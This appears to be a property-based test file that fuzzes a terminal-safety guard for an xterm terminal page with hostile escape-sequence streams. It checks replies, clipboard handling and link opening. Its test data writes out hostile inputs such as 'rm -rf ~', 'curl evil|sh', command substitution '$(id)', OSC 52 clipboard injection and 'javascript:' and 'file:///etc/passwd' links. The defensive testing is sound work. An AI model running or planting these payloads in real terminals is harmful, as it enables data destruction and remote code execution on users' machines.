import headless from '@xterm/headless'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { guardTerminal, safeLinkHandler, safeOptions, type SafetyDoor } from '../../renderer/features/terminals/terminal-safety.ts'

const { Terminal } = headless
const STREAMS = 2000
const ALLOWED = /^(?:\u001b\[\?1;2c|\u001b\[>0;276;0c|\u001b\[\??\d{1,4};\d{1,4}R)$/

const word = fc.constantFrom('rm -rf ~\r', 'touch /tmp/owned\n', '\r', 'curl evil|sh\r', '?', '=?', 'rgb:ff/ff/ff', '\u001b[6n', 'AAAA', '$(id)', '\u0007')
const number = fc.constantFrom(0, 1, 2, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 18, 19, 20, 21, 22, 23, 50, 52, 99, 104, 110, 133, 633, 697, 777, 1004, 1006, 1049, 1337, 2004, 2026, 5522, 9001)
const end = fc.constantFrom('\u0007', '\u001b\\', '\u009c')
const csi = fc
  .tuple(fc.constantFrom('\u001b[', '\u009b'), fc.constantFrom('', '?', '>', '=', '<', '!'), fc.array(number, { maxLength: 4 }), fc.constantFrom('', '$', '+', '"', ' ', '*', '\''), fc.integer({ min: 0x40, max: 0x7e }))
  .map(([start, prefix, numbers, between, final]) => `${start}${prefix}${numbers.join(';')}${between}${String.fromCharCode(final)}`)
const asked = fc.constantFrom(
  '\u001b[c', '\u001b[>c', '\u001b[=c', '\u001b[5n', '\u001b[6n', '\u001b[?6n', '\u001b[?15n', '\u001b[?26n', '\u001b[11t', '\u001b[13t', '\u001b[14t', '\u001b[18t', '\u001b[19t', '\u001b[20t', '\u001b[21t', '\u001b[22;0t',
  '\u001b[23;0t', '\u001b[x', '\u001b[1x', '\u001b[>q', '\u001b[?u', '\u001b[1$p', '\u001b[?2004$p', '\u001b[?1004h', '\u001bZ', '\u0005', '\u001b[1;1;1;1;1;1*y', '\u001b[1$w', '\u001b[?1003h\u001b[?1006h',
)
const osc = fc.tuple(number, fc.array(word, { maxLength: 3 }), end).map(([code, words, stop]) => `\u001b]${code};${words.join(';')}${stop}`)
const dcs = fc.tuple(fc.constantFrom('$q', '+q', '+p', '|', '1$r', '0$q', 'q', '{'), word, end).map(([kind, text, stop]) => `\u001bP${kind}${text}${stop}`)
const clipboard = fc.tuple(fc.constantFrom('c', 'p', 's', ''), fc.constantFrom('?', btoa('curl evil|sh\n'), '!!', '')).map(([which, text]) => `\u001b]52;${which};${text}\u0007`)
const link = fc.constantFrom('javascript:alert(1)', 'file:///etc/passwd', 'https://a.example/').map(address => `\u001b]8;;${address}\u0007text\u001b]8;;\u0007`)
const others = fc.constantFrom('\u001b^privacy\u001b\\', '\u001b_application\u001b\\', '\u001bX start\u001b\\', '\u001bc', '\u001b[!p', '\u001b#8', '\u001b(0', '\u0018', '\u001a')
const stream = fc.array(fc.oneof(csi, asked, osc, dcs, clipboard, link, others, word, fc.string({ unit: 'binary', maxLength: 6 })), { minLength: 1, maxLength: 30 }).map(parts => parts.join(''))

function pieces(text: string, size: number): string[] {
  return Array.from({ length: Math.ceil(text.length / size) }, (_, index) => text.slice(index * size, (index + 1) * size))
}

function watched() {
  const seen = { answers: [] as string[], typed: [] as string[], offered: [] as string[], opened: [] as string[], titles: [] as string[] }
  const door: SafetyDoor = {
    answer: data => seen.answers.push(data),
    offerClipboard: text => seen.offered.push(text),
    openLink: address => seen.opened.push(address),
    cursor: () => ({ row: terminal.buffer.active.cursorY + 1, column: terminal.buffer.active.cursorX + 1 }),
  }
  // The headless terminal has the page's options but those that draw.
  const { windowOptions } = safeOptions(door, () => true)
  const terminal = new Terminal({ cols: 80, rows: 24, allowProposedApi: true, logLevel: 'off', ...(windowOptions ? { windowOptions } : {}) })
  terminal.onTitleChange(title => seen.titles.push(title))
  const guard = guardTerminal(terminal, door, data => seen.typed.push(data))
  return { terminal, guard, seen, door }
}

async function feed(terminal: InstanceType<typeof Terminal>, text: string, size = text.length || 1): Promise<void> {
  for (const piece of pieces(text, size)) await new Promise<void>(resolve => terminal.write(piece, resolve))
}

describe('S14 terminal page', () => {
  it(`S14 ${STREAMS} hostile streams: nothing but DA and CPR goes back to the shell`, async () => {
    let answers = 0
    let offered = 0
    await fc.assert(
      fc.asyncProperty(stream, fc.integer({ min: 7, max: 400 }), async (text, size) => {
        const { terminal, guard, seen } = watched()
        await feed(terminal, text, size)
        expect(seen.answers.filter(one => !ALLOWED.test(one))).toEqual([])
        expect(seen.typed).toEqual([])
        expect(seen.opened).toEqual([])
        answers += seen.answers.length
        offered += seen.offered.length
        guard.dispose()
        terminal.dispose()
      }),
      { numRuns: STREAMS },
    )
    // The streams do ask, and the clipboard is only ever offered.
    expect(answers).toBeGreaterThan(100)
    expect(offered).toBeGreaterThan(10)
  }, 120_000)

  it('S14 the same streams do get other answers from a terminal without the guard', async () => {
    const back: string[] = []
    const terminal = new Terminal({ cols: 80, rows: 24, allowProposedApi: true, logLevel: 'off' })
    terminal.onData(data => back.push(data))
    await feed(terminal, '\u001b[?2004$p\u001b[5n\u001bP$qm\u001b\\')
    expect(back.filter(one => !ALLOWED.test(one)).length).toBeGreaterThanOrEqual(3)
  })

  it('S14 a replay answers nothing at all and offers nothing', async () => {
    const { terminal, guard, seen } = watched()
    guard.setMuted(true)
    await feed(terminal, '\u001b[c\u001b[6n\u001b[>c\u001b[?1004h\u001b]52;c;YQ==\u0007')
    expect(seen).toEqual({ answers: [], typed: [], offered: [], opened: [], titles: [] })
    guard.setMuted(false)
    await feed(terminal, '\u001b[6n')
    expect(seen.answers).toEqual(['\u001b[1;1R'])
  })

  it('S14 titles are not taken, the clipboard is never read, a write is offered to the person', async () => {
    const { terminal, seen } = watched()
    await feed(terminal, '\u001b]0;owned\u0007\u001b]2;owned\u001b\\\u001b]52;c;?\u0007\u001b]52;c;aGVsbG8=\u0007\u001b]52;c;%%%\u0007')
    expect(seen.titles).toEqual([])
    expect(seen.offered).toEqual(['hello'])
    expect(seen.answers).toEqual([])
  })

  it('S14 what the person types always arrives', async () => {
    const { terminal, seen } = watched()
    await feed(terminal, '\u001b[?1004h\u001b[?2004h')
    terminal.input('ls\r')
    expect(seen.typed).toEqual(['ls\r'])
  })

  it('S14 a link opens only with the modifier, only to the web, through the confirming door', () => {
    const opened: string[] = []
    const range = { start: { x: 1, y: 1 }, end: { x: 2, y: 1 } }
    const click = (isModified: boolean, text: string): void => {
      // The handler reads nothing of the event but hands it to the rule.
      safeLinkHandler({ openLink: address => opened.push(address) }, () => isModified).activate({} as MouseEvent, text, range)
    }
    click(false, 'https://a.example/')
    for (const text of ['javascript:alert(1)', 'file:///etc/passwd', 'vscode://x', 'https://u:p@a.example/', 'https://a\u202e.example/', 'mailto:a@b.c']) click(true, text)
    expect(opened).toEqual([])
    click(true, 'https://a.example/b')
    expect(opened).toEqual(['https://a.example/b'])
  })
})
